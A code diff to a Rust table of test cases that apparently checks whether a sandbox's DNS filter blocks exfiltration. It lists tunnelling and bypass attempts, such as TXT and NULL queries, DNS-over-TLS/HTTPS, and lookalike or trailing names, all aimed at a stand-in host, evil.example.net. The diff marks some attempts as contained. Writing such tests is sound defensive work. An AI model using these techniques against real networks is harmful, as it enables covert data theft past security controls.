@@ -35,18 +35,20 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         ANY,
         &["ask", "198.51.100.53", "evil.example.net", "A"],
         &[],
-    ),
+    )
+    .contained(),
     Attempt::one("dns-over-tls", &["ask-tcp", "8.8.8.8#853", "evil.example.net", "A"]),
     Attempt::one("dns-over-https", &["tcp", "1.1.1.1", "443"]),
     Attempt::one("dns-on-another-port", &["ask", "203.0.113.66#5000", "evil.example.net", "A"]),
-    Attempt::one("tunnel-by-name", &["lookup-token", "evil.example.net"]),
+    Attempt::one("tunnel-by-name", &["lookup-token", "evil.example.net"]).contained(),
     Attempt::one("tunnel-by-question", &["ask-token", "system", "evil.example.net", "A"]),
     Attempt::one("tunnel-by-text", &["ask-token", "system", "evil.example.net", "TXT"]),
     Attempt::one("tunnel-by-null", &["ask-token", "system", "evil.example.net", "NULL"]),
     Attempt::one("tunnel-by-name-over-tcp", &["ask-tcp", "system", "data.evil.example.net", "TXT"]),
     Attempt::one("tunnel-below-an-exact-name", &["ask-token", "system", "good.example.org", "A"]),
     Attempt::one("tunnel-by-reverse-name", &["ask-token", "system", "66.113.0.203.in-addr.arpa", "12"]),
-    Attempt::one("name-behind-an-allowed-one", &["lookup-token", "good.example.org.evil.example.net"]),
+    Attempt::one("name-behind-an-allowed-one", &["lookup-token", "good.example.org.evil.example.net"])
+        .contained(),
     Attempt::one("name-that-ends-alike", &["ask", "system", "evilgood.example.org", "A"]),
     Attempt::one("second-question", &["ask-two", "system", "good.example.org", "A"]),
     Attempt::one("bytes-behind-the-question", &["ask-trailing", "system", "good.example.org", "A"]),
@@ -113,7 +115,8 @@ pub(super) const ATTEMPTS: &[Attempt] = &[
         FOREIGN,
         &["lookup-token", "evil.example.net"],
         &["dns foreign.example.org", "dns evil.example.net"],
-    ),
+    )
+    .contained(),
     Attempt::new(
         "port-of-a-service",
         SERVICE,
